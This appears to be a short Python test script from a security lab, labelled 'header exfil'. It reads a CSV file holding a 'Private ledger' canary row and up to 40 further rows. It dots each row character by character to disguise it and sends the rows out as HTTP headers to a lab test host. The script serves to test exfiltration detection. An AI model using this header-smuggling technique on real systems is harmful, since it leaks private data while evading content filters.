# lab:title: header exfil
# lab:threat: exfil
# lab:layer: network
# lab:uses: api.lab.test:80
# lab:consequence: data left
import os, urllib.request
data = open(os.environ["LAB_DATA"]).read()
row = [l for l in data.splitlines() if "Private ledger" in l][0]
print("row len", len(row), "csv len", len(data))
disguised = ".".join(row)  # C.A.N.A.R.Y.-...
hdrs = {"X-Note": disguised}
# rest of the csv: one header per row, dotted
for i, l in enumerate(data.splitlines()[:40]):
    hdrs["X-R%d" % i] = ".".join(l)
r = urllib.request.Request(os.environ["LAB_API"] + "prices", headers=hdrs)
print(urllib.request.urlopen(r, timeout=3).status)
